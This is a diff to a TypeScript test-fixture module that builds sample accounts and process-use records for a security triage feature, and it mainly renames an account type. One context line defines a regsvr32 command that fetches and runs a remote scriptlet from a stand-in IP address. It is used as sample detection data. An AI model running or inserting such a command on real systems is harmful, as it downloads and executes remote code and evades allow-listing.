@@ -1,12 +1,11 @@
 import type { Actor, Role, Scope } from '@/lib/pipeline/actor'
 import { systemActor } from '@/lib/pipeline/actor'
+import type { AccountActor } from '@/lib/store/accounts'
 import { pool } from '@/lib/store/pool'
 import { createAccount } from './create-account'
 import { ingestExamples } from './ingest/example-use'
 import { recompute } from './recompute/recompute'
 import { type Triage, triageDeviation } from './triage-deviation'
-
-export type Person = Extract<Actor, { kind: 'account' }>
 
 const SCRIPTLET = 'regsvr32 /s /u /i:http://203.0.113.9/a.sct scrobj.dll'
 const DRIVER = 'regsvr32 /s C:\\Users\\Public\\driver.dll'
@@ -20,12 +19,12 @@ const use = (host: string, day: number, commandLine: string) => ({
 })
 
 export type TriageExamples = {
-  responder: Person
-  viewer: Person
+  responder: AccountActor
+  viewer: AccountActor
   /** Of ws-1 and ws-2. */
   groupId: number
   /** A responder who sees that group only. */
-  groupResponder: Person
+  groupResponder: AccountActor
 }
 
 /**
@@ -60,7 +59,7 @@ export async function createTriageExamples(): Promise<TriageExamples> {
   }
 }
 
-async function account(name: string, role: Role, scope: Scope = { kind: 'all' }): Promise<Person> {
+async function account(name: string, role: Role, scope: Scope = { kind: 'all' }): Promise<AccountActor> {
   const email = `${name}@example.org`
   const accountId = await createAccount(systemActor('test'), {
     email,
